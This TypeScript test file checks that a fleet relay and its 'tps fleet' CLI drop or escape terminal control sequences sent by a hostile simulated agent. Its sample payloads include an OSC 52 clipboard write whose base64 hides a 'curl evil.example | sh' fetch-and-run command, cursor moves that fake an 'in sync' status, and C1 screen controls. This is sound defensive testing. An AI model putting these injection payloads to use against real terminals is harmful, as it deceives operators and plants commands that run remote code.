/**
 * An agent that writes escape sequences for the operator's terminal: facts, a
 * configuration report and diagnostic answers carrying an OSC 52 clipboard write, cursor
 * moves that paint "in sync" over what is true, and C1 controls, published over MQTT with
 * the terminal's own credential. The relay drops each such message as invalid (and says
 * so in its log); `tps fleet …` prints nothing a terminal would obey, as text or JSON,
 * also from a relay that hands such text on (one that kept it from before).
 */
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { Writable } from 'node:stream';
import mqtt, { type MqttClient } from 'mqtt';
import { pino } from 'pino';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loggerOptions } from '../cloud/logging.js';
import {
  DiagnosticRequestMessage,
  agentClientId,
  terminalTopics,
  type DiagnosticReplyMessage,
} from '../protocol/index.js';
import { runEach } from './support/cli-commands.js';
import { eventually } from './support/e2e-parts.js';
import {
  TEST_ACCOUNT,
  TEST_OPERATOR,
  post,
  startTestRelay,
  type TestRelay,
} from './support/relay.js';

/** What a terminal obeys: C0 but newline and tab, DEL, C1, bidi controls, U+2028/9. */
const BIDI_AND_SEPARATORS = new Set([
  0x061c, 0x200e, 0x200f, 0x2028, 0x2029, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067,
  0x2068, 0x2069,
]);
const obeyed = (text: string): boolean =>
  [...text].some((char) => {
    const code = char.codePointAt(0)!;
    return (
      (code < 0x20 && code !== 0x0a && code !== 0x09) ||
      (code >= 0x7f && code <= 0x9f) ||
      BIDI_AND_SEPARATORS.has(code)
    );
  });

const CLIPBOARD = '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07';
const FAKE_SYNC = '\r\x1b[1A\x1b[2K  t-1000000001  in sync';
const C1 = '\x9b2J\x9d0;owned\x9c';

const warnings: string[] = [];
const logger = pino(
  loggerOptions('warn'),
  new Writable({
    write(chunk: Buffer, _encoding, callback) {
      warnings.push(...chunk.toString().split('\n').filter(Boolean));
      callback();
    },
  }),
);
const dropped = (message: string, kind: string) =>
  warnings.filter((line) => line.includes(message) && line.includes(`"kind":"${kind}"`)).length;

let relay: TestRelay;
let agent: MqttClient;
let terminalId: string;

beforeAll(async () => {
  relay = await startTestRelay({}, undefined, { logger });
  const created = await post(relay.baseUrl, 'v1', '/terminal/create', {}, TEST_ACCOUNT);
  const terminal = created.body as {
    terminal_id: string;
    agent: { username: string; password: string };
  };
  terminalId = terminal.terminal_id;
  agent = await mqtt.connectAsync(relay.brokerUrl, {
    username: terminal.agent.username,
    password: terminal.agent.password,
    clientId: agentClientId(terminalId),
    reconnectPeriod: 0,
  });
  const topics = terminalTopics(terminalId);
  await agent.subscribeAsync(topics.diagnostic, { qos: 1 });
  // Every request is answered twice: first with escape sequences, then plainly.
  agent.on('message', (topic, payload) => {
    if (topic !== topics.diagnostic) return;
    const { request_id, kind } = DiagnosticRequestMessage.parse(JSON.parse(payload.toString()));
    const answers = (text: string): DiagnosticReplyMessage => ({
      request_id,
      kind,
      ...(kind === 'doctor'
        ? { doctor: { checks: [{ status: 'ok', title: text, detail: `first\n${text}` }] } }
        : kind === 'logs'
          ? { logs: { lines: [text, `{"msg":"${text}"}`], truncated: false } }
          : {
              trace: {
                transaction_id: text.slice(0, 64),
                frames: [{ at: new Date().toISOString(), direction: 'reader→host', text }],
                truncated: false,
              },
            }),
    });
    for (const text of [CLIPBOARD + FAKE_SYNC + C1, 'plain answer']) {
      agent.publish(topics.diagnosticReply, JSON.stringify(answers(text)), { qos: 1 });
    }
  });
  await agent.publishAsync(topics.presence, JSON.stringify({ connected: true }), {
    qos: 1,
    retain: true,
  });
  await eventually(
    () => post(relay.baseUrl, 'v1', '/terminal/status', { terminal_id: terminalId }, TEST_ACCOUNT),
    (status) => status.body.status?.connected === true,
    { what: 'the terminal online' },
  );
});
afterAll(async () => {
  await agent?.endAsync(true);
  await relay?.close();
});

const env = () => ({
  TPS_BASE_URL: relay.baseUrl,
  TPS_ACCOUNT_USERNAME: TEST_ACCOUNT.username,
  TPS_ACCOUNT_PASSWORD: TEST_ACCOUNT.password,
  // Rollouts are the operator's: `tps fleet rollout` signs in with its credential.
  TPS_OPERATOR_USERNAME: TEST_OPERATOR.username,
  TPS_OPERATOR_PASSWORD: TEST_OPERATOR.password,
});

describe('an agent writing escape sequences for the operator', () => {
  // Ten commands, each a Node process, three at a time.
  it('has its fleet messages dropped, and tps fleet prints nothing a terminal obeys', async () => {
    const topics = terminalTopics(terminalId);
    const at = new Date().toISOString();
    const hostile = CLIPBOARD + FAKE_SYNC + C1;
    await agent.publishAsync(
      topics.facts,
      JSON.stringify({
        agent_version: `1.0.0${CLIPBOARD}`,
        reader: { protocol: 'native', model: FAKE_SYNC.slice(0, 60), firmware: C1 },
        at,
      }),
      { qos: 1, retain: true },
    );
    await agent.publishAsync(
      topics.configReport,
      JSON.stringify({ version: 'a'.repeat(16), status: 'REJECTED', reason: hostile, at }),
      { qos: 1, retain: true },
    );
    // Taken in (the old way) or dropped: either is seen before the commands run.
    const account = (op: string, body: object) => post(relay.baseUrl, 'v1', op, body, TEST_ACCOUNT);
    await eventually(
      async () => ({
        facts: await account('/fleet/facts', { terminal_id: terminalId }),
        config: await account('/fleet/config/get', { scope: { terminal_id: terminalId } }),
      }),
      ({ facts, config }) =>
        (facts.body.terminals?.[0]?.agent_version !== null ||
          dropped('invalid fleet message', 'facts') > 0) &&
        (config.body.terminals?.[0]?.reported !== null ||
          dropped('invalid fleet message', 'config-report') > 0),
      { what: 'the messages taken in or dropped' },
    );

    const commands = [
      ['fleet', 'facts', '--terminal', terminalId],
      ['fleet', 'facts', '--terminal', terminalId, '--json'],
      ['fleet', 'config', 'get', '--terminal', terminalId],
      ['fleet', 'config', 'get', '--terminal', terminalId, '--json'],
      ...['doctor', 'logs', 'trace'].flatMap((kind) => [
        ['fleet', kind, '--terminal', terminalId, '--wait', '20'],
        ['fleet', kind, '--terminal', terminalId, '--wait', '20', '--json'],
      ]),
    ];
    const runs = await runEach(commands.map((args) => ({ args, env: env() })));
    runs.forEach((run, index) => {
      const what = commands[index]!.join(' ');
      expect(run.code, `${what}: ${run.stderr}`).toBe(0);
      expect(obeyed(run.stdout), `${what} printed ${JSON.stringify(run.stdout)}`).toBe(false);
      expect(obeyed(run.stderr), `${what} printed ${JSON.stringify(run.stderr)}`).toBe(false);
    });
    // The diagnostics were answered by the plain answer, the first one dropped.
    for (const index of [4, 6, 8]) expect(runs[index]!.stdout).toContain('plain answer');
    expect(runs[4]!.stdout).toContain('    first\n    plain answer');
    expect(dropped('invalid fleet message', 'facts')).toBeGreaterThan(0);
    expect(dropped('invalid fleet message', 'config-report')).toBeGreaterThan(0);
    // Each kind asked twice (as text and as JSON).
    expect(dropped('invalid fleet message', 'diag-reply')).toBe(6);
  }, 60_000);
});

describe('tps fleet, from a relay that hands on what an agent wrote', () => {
  it('shows the control characters as escapes, in text, JSON and error messages', async () => {
    const hostile = CLIPBOARD + FAKE_SYNC + C1 + '\u202e\u2028';
    const at = new Date().toISOString();
    const answers: Record<string, [number, object]> = {
      '/pos/v1/fleet/facts': [
        200,
        {
          terminals: [
            {
              terminal_id: 't-1000000001',
              name: hostile,
              cohort: hostile,
              agent_version: hostile,
              node_version: hostile,
              reader_protocol: hostile,
              reader_model: hostile,
              reader_firmware: hostile,
              config_version: null,
              config_status: null,
              last_update_outcome: hostile,
              last_seen: at,
              connected: false,
            },
          ],
        },
      ],
      '/pos/v1/fleet/rollouts/r-1': [
        200,
        {
          rollout: {
            ...{ id: 'r-1', account_id: 'acct-1', version: '1.4.0', cohort: hostile },
            arch: 'linux-x64',
            ...{ share_percent: 10, max_failure_percent: 0, deadline_s: 600, state: 'paused' },
            ...{ wave: 1, wave_started_at: at, paused_reason: hostile },
            ...{ created_at: at, updated_at: at },
            terminals: [
              { terminal_id: 't-1000000001', wave: 1, ordered_at: at, result: hostile },
              { terminal_id: 't-1000000002', wave: 1, ordered_at: at, reason: hostile },
            ],
          },
        },
      ],
      '/pos/v1/fleet/diagnostics': [
        502,
        { error: { code: 'DIAGNOSTICS_FAILED', message: `terminal t-1000000001: ${hostile}` } },
      ],
    };
    const server = http.createServer((request, response) => {
      request.resume();
      const [status, body] = answers[request.url ?? ''] ?? [404, { error: { code: 'NOT_FOUND' } }];
      response.writeHead(status, { 'content-type': 'application/json' });
      response.end(JSON.stringify(body));
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const { port } = server.address() as AddressInfo;
    const commands = [
      ['fleet', 'facts'],
      ['fleet', 'facts', '--json'],
      ['fleet', 'rollout', 'status', 'r-1'],
      ['fleet', 'rollout', 'status', 'r-1', '--json'],
      ['fleet', 'logs', '--terminal', 't-1000000001'],
    ];
    try {
      const runs = await runEach(
        commands.map((args) => ({
          args,
          env: { ...env(), TPS_BASE_URL: `http://127.0.0.1:${port}/pos` },
        })),
      );
      runs.forEach((run, index) => {
        const what = commands[index]!.join(' ');
        // Shown: `\x1b` as text, `\u001b` in JSON.
        expect(`${run.stdout}${run.stderr}`, what).toMatch(/\\(x1b|u001b)\]52;c;/);
        expect(obeyed(run.stdout), `${what} printed ${JSON.stringify(run.stdout)}`).toBe(false);
        expect(obeyed(run.stderr), `${what} printed ${JSON.stringify(run.stderr)}`).toBe(false);
      });
      // JSON stays JSON, of the same value.
      expect(JSON.parse(runs[1]!.stdout).terminals[0].agent_version).toBe(hostile);
      expect(JSON.parse(runs[3]!.stdout).paused_reason).toBe(hostile);
      expect(runs[4]!.code).toBe(1);
    } finally {
      await new Promise((resolve) => server.close(resolve));
    }
  }, 60_000);
});
